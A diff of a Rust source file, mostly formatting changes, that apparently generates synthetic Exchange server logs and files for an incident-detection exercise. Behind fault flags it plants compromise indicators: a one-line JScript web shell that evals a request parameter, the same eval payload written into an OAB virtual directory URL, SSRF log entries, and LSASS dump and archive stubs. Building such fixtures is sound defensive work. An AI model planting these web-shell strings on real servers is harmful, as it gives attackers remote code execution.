@@ -125,7 +125,14 @@ pub fn csv_head(fields: &[&str], log_type: &str, start_ms: i64) -> String {
 pub fn proxy_line(r: &ProxyRow, host: &str, n: u64) -> String {
     let values = [
         iso(r.time_ms),
-        format!("{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}", n, n & 0xffff, n & 0xfff, (n >> 3) & 0xfff, n.wrapping_mul(2654435761)),
+        format!(
+            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
+            n,
+            n & 0xffff,
+            n & 0xfff,
+            (n >> 3) & 0xfff,
+            n.wrapping_mul(2654435761)
+        ),
         "15".into(),
         "2".into(),
         "1748".into(),
@@ -164,7 +171,13 @@ const USER_AGENTS: [&str; 4] = [
 /// A benign request of `protocol`, or one of the near misses the reference excludes (the
 /// server's own autodiscover and localhost traffic, a reset of a virtual directory from
 /// localhost without the `#` end) when `near` says.
-pub fn benign_row(rng: &mut impl Rng, protocol: &str, host: &str, time_ms: i64, near: u8) -> ProxyRow {
+pub fn benign_row(
+    rng: &mut impl Rng,
+    protocol: &str,
+    host: &str,
+    time_ms: i64,
+    near: u8,
+) -> ProxyRow {
     let user = format!("CONTOSO\\user{:03}", rng.random_range(0..400));
     let mut r = ProxyRow {
         time_ms,
@@ -173,7 +186,12 @@ pub fn benign_row(rng: &mut impl Rng, protocol: &str, host: &str, time_ms: i64, 
         user: user.clone(),
         anchor: format!("Smtp~user{:03}@contoso.com", rng.random_range(0..400)),
         user_agent: USER_AGENTS[rng.random_range(0..USER_AGENTS.len())].to_string(),
-        client_ip: format!("10.{}.{}.{}", rng.random_range(1..20), rng.random_range(0..255), rng.random_range(1..255)),
+        client_ip: format!(
+            "10.{}.{}.{}",
+            rng.random_range(1..20),
+            rng.random_range(0..255),
+            rng.random_range(1..255)
+        ),
         status: [200, 200, 200, 302, 401][rng.random_range(0..5)],
         method: ["GET", "POST"][rng.random_range(0..2)].to_string(),
     };
@@ -217,7 +235,11 @@ pub fn files(h: &HostSpec, seed: u64) -> Vec<File> {
             let mut text = csv_head(&PROXY_FIELDS, "HttpProxy Logs", t0);
             for i in 0..40 {
                 n += 1;
-                let near = if i % 10 == 3 { (i / 10 % 3 + 1) as u8 } else { 0 };
+                let near = if i % 10 == 3 {
+                    (i / 10 % 3 + 1) as u8
+                } else {
+                    0
+                };
                 let r = benign_row(&mut rng, protocol, &host, t0 + i * MINUTE, near);
                 text.push_str(&proxy_line(&r, &host, n));
                 if part == 2 && i == 20 {
@@ -227,12 +249,22 @@ pub fn files(h: &HostSpec, seed: u64) -> Vec<File> {
                     }
                 }
             }
-            let path = format!(r"{install}Logging\HttpProxy\{protocol}\HttpProxy_{}-{part}.LOG", stamp(t0));
+            let path = format!(
+                r"{install}Logging\HttpProxy\{protocol}\HttpProxy_{}-{part}.LOG",
+                stamp(t0)
+            );
             out.push((path, text.into_bytes(), t0 + 3 * HOUR));
         }
     }
     // ECP server log.
-    let ecp_fields = ["DateTime", "RequestId", "ServerName", "User", "EventType", "GenericInfo"];
+    let ecp_fields = [
+        "DateTime",
+        "RequestId",
+        "ServerName",
+        "User",
+        "EventType",
+        "GenericInfo",
+    ];
     let mut ecp = csv_head(&ecp_fields, "ECP Server Log", start);
     let set = |t: i64, url: &str| {
         format!(
@@ -243,51 +275,123 @@ pub fn files(h: &HostSpec, seed: u64) -> Vec<File> {
             csv(&format!("S:CMD=Set-OabVirtualDirectory.ExternalUrl=''{url}''.Identity=''OAB (Default Web Site)'';S:TYPE=OabVirtualDirectory"))
         )
     };
-    ecp.push_str(&set(start + 5 * MINUTE, &format!("https://mail.contoso.com/OAB")));
+    ecp.push_str(&set(
+        start + 5 * MINUTE,
+        &format!("https://mail.contoso.com/OAB"),
+    ));
     for i in 0..20 {
-        ecp.push_str(&format!("{},{:x},{},CONTOSO\\user{i:03},Request,S:Page=/ecp/default.aspx\r\n", iso(start + (10 + i) * MINUTE), i, h.name));
+        ecp.push_str(&format!(
+            "{},{:x},{},CONTOSO\\user{i:03},Request,S:Page=/ecp/default.aspx\r\n",
+            iso(start + (10 + i) * MINUTE),
+            i,
+            h.name
+        ));
     }
     if h.has(Fault::IocEcpWrite) {
         ecp.push_str(&set(INCIDENT_MS + 2 * MINUTE, r#"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>"#));
     }
-    out.push((format!(r"{install}Logging\ECP\Server\ECPServer{}-1.LOG", stamp(start)), ecp.into_bytes(), INCIDENT_MS + HOUR));
+    out.push((
+        format!(
+            r"{install}Logging\ECP\Server\ECPServer{}-1.LOG",
+            stamp(start)
+        ),
+        ecp.into_bytes(),
+        INCIDENT_MS + HOUR,
+    ));
     // OAB generator log.
     let oab_fields = ["DateTime", "Level", "Message"];
     let mut oab = csv_head(&oab_fields, "OAB Generator Log", start);
     let download = |t: i64, path: &str| {
-        format!("{},Warning,{}\r\n", iso(t), csv(&format!("Download failed and temporary file '{path}' needs to be removed.")))
+        format!(
+            "{},Warning,{}\r\n",
+            iso(t),
+            csv(&format!(
+                "Download failed and temporary file '{path}' needs to be removed."
+            ))
+        )
     };
-    oab.push_str(&download(start + 30 * MINUTE, &format!(r"{install}ClientAccess\OAB\Temp\oab-{}.tmp", rng.random_range(1000..9999))));
-    oab.push_str(&format!("{},Info,OABGeneratorAssistant finished generating the OAB.\r\n", iso(start + 31 * MINUTE)));
+    oab.push_str(&download(
+        start + 30 * MINUTE,
+        &format!(
+            r"{install}ClientAccess\OAB\Temp\oab-{}.tmp",
+            rng.random_range(1000..9999)
+        ),
+    ));
+    oab.push_str(&format!(
+        "{},Info,OABGeneratorAssistant finished generating the OAB.\r\n",
+        iso(start + 31 * MINUTE)
+    ));
     if h.has(Fault::IocOabWrite) {
         oab.push_str(&download(INCIDENT_MS + 5 * MINUTE, OAB_WRITTEN));
     }
-    out.push((format!(r"{install}Logging\OABGeneratorLog\OABGeneratorLog_{}-1.LOG", stamp(start)), oab.into_bytes(), INCIDENT_MS + HOUR));
+    out.push((
+        format!(
+            r"{install}Logging\OABGeneratorLog\OABGeneratorLog_{}-1.LOG",
+            stamp(start)
+        ),
+        oab.into_bytes(),
+        INCIDENT_MS + HOUR,
+    ));
     // IIS.
     out.push((
-        format!(r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex{}.log", &stamp(start)[2..8]),
+        format!(
+            r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex{}.log",
+            &stamp(start)[2..8]
+        ),
         iis_log(h, &host, &mut rng, start).into_bytes(),
         INCIDENT_MS + HOUR,
     ));
     // The web folders' stock pages (the same on every server of a build) and the files the
     // suspicious-file scan must leave alone.
     let build = super::builds::text(h.exsetup_build);
-    for (folder, page) in [(r"FrontEnd\HttpProxy\owa\auth", "logon.aspx"), (r"FrontEnd\HttpProxy\owa\auth", "errorFE.aspx"), (r"FrontEnd\HttpProxy\ecp\auth", "TimeoutLogout.aspx")] {
+    for (folder, page) in [
+        (r"FrontEnd\HttpProxy\owa\auth", "logon.aspx"),
+        (r"FrontEnd\HttpProxy\owa\auth", "errorFE.aspx"),
+        (r"FrontEnd\HttpProxy\ecp\auth", "TimeoutLogout.aspx"),
+    ] {
         let body = format!("<%@ Page Language=\"C#\" Inherits=\"Microsoft.Exchange.HttpProxy.{page}\" %>\r\n<!-- Exchange {build} -->\r\n");
-        out.push((format!(r"{install}{folder}\{page}"), body.into_bytes(), start - 30 * 24 * HOUR));
+        out.push((
+            format!(r"{install}{folder}\{page}"),
+            body.into_bytes(),
+            start - 30 * 24 * HOUR,
+        ));
     }
-    out.push((r"C:\inetpub\wwwroot\aspnet_client\system_web\4_0_30319\readme.txt".into(), b"ASP.NET client files\r\n".to_vec(), start));
-    out.push((r"C:\Windows\Temp\lsass-notes.txt".into(), b"not a dump\r\n".to_vec(), start));
-    out.push((r"C:\ProgramData\Microsoft\Exchange\diag.cab".into(), b"MSCF".to_vec(), start));
+    out.push((
+        r"C:\inetpub\wwwroot\aspnet_client\system_web\4_0_30319\readme.txt".into(),
+        b"ASP.NET client files\r\n".to_vec(),
+        start,
+    ));
+    out.push((
+        r"C:\Windows\Temp\lsass-notes.txt".into(),
+        b"not a dump\r\n".to_vec(),
+        start,
+    ));
+    out.push((
+        r"C:\ProgramData\Microsoft\Exchange\diag.cab".into(),
+        b"MSCF".to_vec(),
+        start,
+    ));
     if h.has(Fault::IocWebShell) {
         let shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\r\n";
-        out.push((WEB_SHELL.into(), shell.as_bytes().to_vec(), INCIDENT_MS + 10 * MINUTE));
+        out.push((
+            WEB_SHELL.into(),
+            shell.as_bytes().to_vec(),
+            INCIDENT_MS + 10 * MINUTE,
+        ));
     }
     if h.has(Fault::IocLsassDump) {
-        out.push((LSASS_DUMP.into(), b"MDMP\x93\xa7".to_vec(), INCIDENT_MS + 20 * MINUTE));
+        out.push((
+            LSASS_DUMP.into(),
+            b"MDMP\x93\xa7".to_vec(),
+            INCIDENT_MS + 20 * MINUTE,
+        ));
     }
     if h.has(Fault::IocArchive) {
-        out.push((ARCHIVE.into(), b"7z\xbc\xaf\x27\x1c".to_vec(), INCIDENT_MS + 30 * MINUTE));
+        out.push((
+            ARCHIVE.into(),
+            b"7z\xbc\xaf\x27\x1c".to_vec(),
+            INCIDENT_MS + 30 * MINUTE,
+        ));
     }
     out
 }
@@ -307,10 +411,18 @@ fn planted_proxy(h: &HostSpec, protocol: &str, host: &str) -> Vec<ProxyRow> {
     };
     let mut out = Vec::new();
     if h.has(Fault::IocSsrf) && protocol == "Owa" {
-        out.push(row(SSRF_ANCHOR.replace("{host}", host), ATTACKER_SSRF, "/owa/auth/x.js"));
+        out.push(row(
+            SSRF_ANCHOR.replace("{host}", host),
+            ATTACKER_SSRF,
+            "/owa/auth/x.js",
+        ));
     }
     if h.has(Fault::IocEcpWrite) && protocol == "Ecp" {
-        out.push(row(RESET_ANCHOR.replace("{host}", host), ATTACKER_ECP, "/ecp/y.js"));
+        out.push(row(
+            RESET_ANCHOR.replace("{host}", host),
+            ATTACKER_ECP,
+            "/ecp/y.js",
+        ));
     }
     out
 }
@@ -330,14 +442,39 @@ fn iis_log(h: &HostSpec, host: &str, rng: &mut impl Rng, start: i64) -> String {
         when(start)
     );
     let line = |t: i64, stem: &str, query: &str, user: &str, ip: &str, ua: &str, status: u16| {
-        format!("{} 10.0.0.5 GET {stem} {query} 443 {user} {ip} {ua} - {status} 0 0 {}\r\n", when(t), 5 + t % 97)
+        format!(
+            "{} 10.0.0.5 GET {stem} {query} 443 {user} {ip} {ua} - {status} 0 0 {}\r\n",
+            when(t),
+            5 + t % 97
+        )
     };
     for i in 0..30 {
-        let ip = format!("10.{}.{}.{}", rng.random_range(1..20), rng.random_range(0..255), rng.random_range(1..255));
+        let ip = format!(
+            "10.{}.{}.{}",
+            rng.random_range(1..20),
+            rng.random_range(0..255),
+            rng.random_range(1..255)
+        );
         let t = start + i * MINUTE;
-        s.push_str(&line(t, "/owa/", "-", &format!("CONTOSO\\user{i:03}"), &ip, "Mozilla/5.0+(Windows+NT+10.0)", 200));
+        s.push_str(&line(
+            t,
+            "/owa/",
+            "-",
+            &format!("CONTOSO\\user{i:03}"),
+            &ip,
+            "Mozilla/5.0+(Windows+NT+10.0)",
+            200,
+        ));
         if i % 10 == 4 {
-            s.push_str(&line(t, "/autodiscover/autodiscover.json", &format!("Email=user{i:03}@contoso.com&Protocol=ActiveSync&RedirectCount=1"), "-", &ip, "Outlook-iOS/723.4027091.prod.iphone", 200));
+            s.push_str(&line(
+                t,
+                "/autodiscover/autodiscover.json",
+                &format!("Email=user{i:03}@contoso.com&Protocol=ActiveSync&RedirectCount=1"),
+                "-",
+                &ip,
+                "Outlook-iOS/723.4027091.prod.iphone",
+                200,
+            ));
         }
     }
     let notshell = |t: i64, ip: &str, status: u16| {
@@ -372,5 +509,7 @@ pub fn um_events(h: &HostSpec) -> Vec<(u8, i64, String)> {
 }
 
 fn name_hash(name: &str) -> u64 {
-    name.bytes().fold(0xcbf29ce484222325u64, |h, b| (h ^ b as u64).wrapping_mul(0x100000001b3))
+    name.bytes().fold(0xcbf29ce484222325u64, |h, b| {
+        (h ^ b as u64).wrapping_mul(0x100000001b3)
+    })
 }
